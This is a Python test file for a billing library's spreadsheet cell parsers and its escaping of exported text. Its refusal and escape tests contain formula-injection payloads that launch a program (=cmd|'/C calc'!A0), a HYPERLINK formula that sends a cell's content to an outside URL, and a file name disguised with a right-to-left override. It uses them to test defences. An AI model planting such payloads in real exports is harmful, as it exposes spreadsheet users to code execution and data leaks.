"""From the text of a cell to its value, for each kind of column; and text that a spreadsheet would run."""

import datetime as dt
import re
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from billhook_common.tabular import CellError, escape_for_spreadsheet, unescape_from_spreadsheet
from billhook_common.tabular.cells import (
    GeoPoint,
    Parser,
    billing_day,
    choice,
    country,
    date,
    decimal,
    emails,
    gps,
    phones,
    tax_rate,
    text,
    whole_number,
)

pytestmark = pytest.mark.unit

STATES = choice({"active": "aktiv; aktivní; ON", "blocked": "gesperrt"})
COMMA = decimal(",", places=2, minimum=Decimal(-100_000_000), maximum=Decimal(100_000_000))
POINT = decimal(".", places=2)
PRICE = decimal(",", places=6, minimum=Decimal(0))


def code(parser: Parser, cell: str) -> str:
    with pytest.raises(CellError) as refusal:
        parser.parse(cell)
    return refusal.value.code


@pytest.mark.parametrize(
    ("parser", "cell", "value"),
    [
        (text(), "Jiří Říha", "Jiří Říha"),
        (text(), "-- called 3x, no answer", "-- called 3x, no answer"),
        (text(), "+420 / office", "+420 / office"),
        (text(), "@home package", "@home package"),
        (text(), "'t Hart", "'t Hart"),
        (text(), "'=1+1", "=1+1"),
        (text(), "one\r\ntwo\rthree", "one\ntwo\nthree"),
        (STATES, "Active", "active"),
        (STATES, "AKTIVNI", "active"),
        (STATES, "gesperrt", "blocked"),
        (COMMA, "14,50", Decimal("14.50")),
        (COMMA, "-72,5", Decimal("-72.5")),
        (COMMA, "−72,50", Decimal("-72.50")),
        (COMMA, "72,50-", Decimal("-72.50")),
        (COMMA, "(72,50)", Decimal("-72.50")),
        (COMMA, "+3", Decimal(3)),
        (COMMA, "1.234.567,89", Decimal("1234567.89")),
        (COMMA, "1 234,50 €", Decimal("1234.50")),
        (COMMA, "EUR 1\u202f234,50", Decimal("1234.50")),
        (COMMA, "500 Kč", Decimal(500)),
        (COMMA, "14,5000", Decimal("14.50")),
        (COMMA, "0,00", Decimal(0)),
        (POINT, "1,234.50", Decimal("1234.50")),
        (POINT, "1'234.50", Decimal("1234.50")),
        (PRICE, "0,123456", Decimal("0.123456")),
        (tax_rate(","), "21", Decimal(21)),
        (tax_rate(","), "21 %", Decimal(21)),
        (tax_rate(","), "5,5", Decimal("5.5")),
        (tax_rate(","), "5.5", Decimal("5.5")),
        (whole_number(0, 10), "7", 7),
        (billing_day(), "31", 31),
        (billing_day(), "28.0", 28),
        (date(), "2026-11-22", dt.date(2026, 11, 22)),
        (date(), "2026-11-22 00:00:00", dt.date(2026, 11, 22)),
        (date(), "22.11.2026", dt.date(2026, 11, 22)),
        (date(), "2. 1. 2026", dt.date(2026, 1, 2)),
        (date(), "22-11-2026", dt.date(2026, 11, 22)),
        (date(), "02/01/2026", dt.date(2026, 1, 2)),
        (date("mdy"), "02/01/2026", dt.date(2026, 2, 1)),
        (date("mdy"), "02.01.2026", dt.date(2026, 1, 2)),
        (date(), "29.02.2024", dt.date(2024, 2, 29)),
        (emails(), "Anna.Nováková+isp@mail.example.net", "Anna.Nováková+isp@mail.example.net"),
        (emails(), "a@example.com;b@example.org , c@example.net", "a@example.com, b@example.org, c@example.net"),
        (phones(), "+420 555 416 137", "+420 555 416 137"),
        (phones(), "'+420 555 416 137", "+420 555 416 137"),
        (phones(), "00420555416137", "00420555416137"),
        (phones(), "(030) 12 34-56 ext. 7", "(030) 12 34-56 ext. 7"),
        (phones(), "+420 555 416 137, 555416137", "+420 555 416 137, 555416137"),
        (gps(), "49.744504,13.380751", "49.744504,13.380751"),
        (gps(), "-33.9; 18.4", "-33.9,18.4"),
        (gps(), "90 180", "90,180"),
        (country(), "CZ", "CZ"),
        (country(), "de", "DE"),
        (country(), "Česká republika", "CZ"),
        (country(), "österreich", "AT"),
    ],
)
def test_a_cell_is_read_as_its_column_says(parser: Parser, cell: str, value: object) -> None:
    assert parser.parse(cell) == value


@pytest.mark.parametrize(
    ("parser", "cell", "wrong"),
    [
        (text(), '=HYPERLINK("http://example.com/?x="&A2,"open")', "formula-like-text"),
        (text(), "=1+1|' /C calc'!A0", "formula-like-text"),
        (text(), "＝1+1", "formula-like-text"),
        (text(), "@SUM(A1:A9)", "formula-like-text"),
        (text(), "+cmd|' /C calc'!A0", "formula-like-text"),
        (text(), "-SUM(A1)", "formula-like-text"),
        (text(), "bell\a", "invisible-characters"),
        (text(), "gnp.\u202eexe", "invisible-characters"),
        (text(5), "longer", "too-long"),
        (STATES, "unknown", "unknown-choice"),
        (COMMA, "14.50", "not-a-number"),
        (COMMA, "1.23,4", "not-a-number"),
        (COMMA, "1,2,3", "not-a-number"),
        (COMMA, "abc", "not-a-number"),
        (COMMA, "NaN", "not-a-number"),
        (COMMA, "1e5", "not-a-number"),
        (COMMA, "--5", "not-a-number"),
        (COMMA, "1,999", "too-many-decimals"),
        (COMMA, "999999999", "out-of-range"),
        (decimal(",", places=0), "1,5", "too-many-decimals"),
        (POINT, "14,50", "not-a-number"),
        (PRICE, "-1", "out-of-range"),
        (tax_rate("."), "101", "out-of-range"),
        (tax_rate("."), "-1", "out-of-range"),
        (billing_day(), "0", "out-of-range"),
        (billing_day(), "32", "out-of-range"),
        (billing_day(), "1.5", "not-a-number"),
        (billing_day(), "last", "not-a-number"),
        (date(), "31.02.2021", "impossible-date"),
        (date(), "00.13.1979", "impossible-date"),
        (date(), "29.02.2023", "impossible-date"),
        (date(), "1.5.21", "not-a-date"),
        (date(), "22.11/2026", "not-a-date"),
        (date(), "yesterday", "not-a-date"),
        (date(), "2026-11-22 13:05:00", "not-a-date"),
        (date(), "01.01.1899", "out-of-range"),
        (emails(), "anja.schafer.example.com", "bad-email"),
        (emails(), "jan.dvorak@@example.org", "bad-email"),
        (emails(), "autodily.sro2@example", "bad-email"),
        (emails(), "a b@example.com", "bad-email"),
        (emails(), "a@example..com", "bad-email"),
        (emails(), ".a@example.com", "bad-email"),
        (emails(), "a@example.com,b", "bad-email"),
        (emails(), "a" * 250 + "@example.com", "bad-email"),
        (phones(), "1234", "bad-phone"),
        (phones(), "call me", "bad-phone"),
        (phones(), "+420 555 416 137 555 416 137", "bad-phone"),
        (gps(), "Brno", "bad-gps"),
        (gps(), "49.7", "bad-gps"),
        (gps(), "91,13", "bad-gps"),
        (gps(), "49,181", "bad-gps"),
        (gps(), "nan,13", "bad-gps"),
        (gps(), "٤٩,13", "bad-gps"),
        (country(), "ZZ", "unknown-country"),
        (country(), "Atlantis", "unknown-country"),
    ],
)
def test_a_wrong_cell_is_refused_with_its_code(parser: Parser, cell: str, wrong: str) -> None:
    assert code(parser, cell) == wrong


def test_a_place_is_read_from_its_text() -> None:
    assert GeoPoint.of("49.744504,-13.38") == GeoPoint(49.744504, -13.38)


@pytest.mark.parametrize(
    ("parser", "alphabet"),
    [
        (text(), " aZé19=@+-'.,;|!()\t\n\u202e＝"),
        (text(12), "a' "),
        (emails(), "aé1.@-_, "),
        (phones(), "+05 ("),
        (gps(), "-+019.,٤"),
    ],
)
@given(data=st.data())
def test_a_plain_cell_is_its_own_value(parser: Parser, alphabet: str, data: st.DataObject) -> None:
    assert parser.plain is not None
    cell = data.draw(st.text(alphabet=alphabet, min_size=1, max_size=16))
    if cell.strip() and re.fullmatch(parser.plain, cell):
        assert cell == cell.strip()
        assert parser.parse(cell) == cell


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1+1", "'＝1+1"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("+420 555 416 137", "'+420 555 416 137"),
        ("'=1+1", "''=1+1"),
        ("-72.50", "-72.50"),
        ("-72,50", "-72,50"),
        ("+420555416137", "+420555416137"),
        ("'t Hart", "'t Hart"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_what_a_spreadsheet_might_run_is_exported_as_text(raw: str, escaped: str) -> None:
    assert escape_for_spreadsheet(raw) == escaped
    assert unescape_from_spreadsheet(escaped) == raw


@given(st.text(alphabet="='+-@ \t\n\r＝＋a1,.(|!", max_size=12))
@example("''=")
@example("'-1")
def test_the_round_trip_changes_nothing_and_nothing_dangerous_leaves(raw: str) -> None:
    escaped = escape_for_spreadsheet(raw)
    assert unescape_from_spreadsheet(escaped) == raw
    assert escaped.lstrip(" ")[:1] not in set("=@\t\r\n＝＋＠－")
    assert escaped[:1] not in ("+", "-") or re.fullmatch(r"[+-]\d+([.,]\d+)?", escaped)
